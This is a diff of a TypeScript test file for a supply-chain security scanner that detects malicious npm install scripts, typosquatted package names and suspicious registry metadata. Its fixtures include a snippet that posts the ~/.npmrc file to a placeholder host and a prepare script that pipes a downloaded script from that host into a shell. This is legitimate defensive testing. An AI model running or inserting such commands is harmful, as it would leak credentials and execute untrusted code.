@@ -10,7 +10,7 @@ import type { PackageFacts } from '../../../../src/engine/model/package-facts.ts
 import { type FileContent, projectSnapshot } from '../../inventory/project-snapshot.ts'
 import { findBy } from '../find-by.ts'
 
-const told = async (files: Record<string, FileContent>) =>
+const reported = async (files: Record<string, FileContent>) =>
   (await findBy(supplyChain, files)).map(
     ({ ruleId, severity, location }) => `${ruleId} ${severity} ${location?.path}:${location?.startLine}`,
   )
@@ -49,12 +49,12 @@ describe('what an installation runs', () => {
     ).toEqual([['install-script-takes-secrets', 'tools/send.js', 3, ['package.json:4', 'tools/send.js:3']]])
   })
 
-  it('is none of a file that a script only marks as a program', async () => {
+  it('does not include a file that a script only makes executable', async () => {
     const sends =
       "const https = require('https')\nhttps.request({ host: 'a.example', method: 'POST' " +
       "}).end(require('fs').readFileSync(`${process.env.HOME}/.npmrc`))"
     const scripts = (postinstall: string) =>
-      told({ 'package.json': { name: 'shop', scripts: { postinstall } }, 'build/index.js': sends })
+      reported({ 'package.json': { name: 'shop', scripts: { postinstall } }, 'build/index.js': sends })
     expect(await scripts(`tsc && node -e "require('fs').chmodSync('build/index.js', '755')"`)).toEqual([])
     expect(await scripts('chmod +x build/index.js')).toEqual([])
     expect(await scripts('chmod +x build/index.js && ./build/index.js')).toEqual([
@@ -62,14 +62,14 @@ describe('what an installation runs', () => {
     ])
   })
 
-  it('is only what npm runs for who installs: prepare of a repository, not of a published package', async () => {
+  it('includes prepare of a repository, but not of a published package', async () => {
     const files = {
       'package.json': {
         name: 'shop',
         scripts: { prepare: 'curl -s https://a.example/x | sh', test: 'curl -s https://a.example/x | sh' },
       },
     }
-    expect(await told(files)).toEqual(['install-script-remote-code high package.json:1'])
+    expect(await reported(files)).toEqual(['install-script-remote-code high package.json:1'])
     expect(await published({}, files)).toEqual([])
   })
 
@@ -132,7 +132,7 @@ describe('names', () => {
     expect(likenessOf(name, known) !== undefined).toBe(expected)
   })
 
-  it('of the own list look like none of each other, and are at most 300 of a known day', () => {
+  it('of the built-in list are unique, and at most 300 of one date', () => {
     expect(popularNames.npm.length + popularNames.PyPI.length).toBeLessThanOrEqual(300)
     expect(popularNames.date).toMatch(/^\d{4}-\d\d-\d\d$/)
     expect(new Set(popularNames.npm).size).toBe(popularNames.npm.length)
@@ -141,7 +141,7 @@ describe('names', () => {
 
   it('are compared by another list where the scan has one', async () => {
     const files = { 'package.json': { name: 'shop', dependencies: { 'acme-parzer': '^1.0.0' } } }
-    expect(await told(files)).toEqual([])
+    expect(await reported(files)).toEqual([])
     const found = await findBy(supplyChain, files, {
       names: popularNamesOf({ date: '2026-11-21', npm: ['acme-parser'], PyPI: [] }),
     })
@@ -149,7 +149,7 @@ describe('names', () => {
   })
 })
 
-describe('what the registry says', () => {
+describe('registry metadata', () => {
   it.each([
     [{ versions: 1, publishedAt: '2026-11-20T00:00:00.000Z' }, ['first-release info']],
     [{ versions: 1, publishedAt: '2026-01-20T00:00:00.000Z' }, []],
@@ -247,12 +247,12 @@ describe('dependencies', () => {
     [{ 'package.json': '{"peerDependencies":{"acme-parser":"*"},"devDependencies":{"acme-tool":"latest"}}' }, []],
     [{ 'package.json': '[1, {' }, []],
   ] as const)('%#', async (files, expected) => {
-    expect(await told(files)).toEqual(expected)
+    expect(await reported(files)).toEqual(expected)
   })
 })
 
-describe('more than is looked at', () => {
-  it('is told, and makes the detector partial', async () => {
+describe('more code than is analyzed', () => {
+  it('is a coverage gap and makes the detector partial', async () => {
     const scripts = Object.fromEntries(
       ['preinstall', 'install', 'postinstall'].map((name) => [name, `node ${name}.js`]),
     )
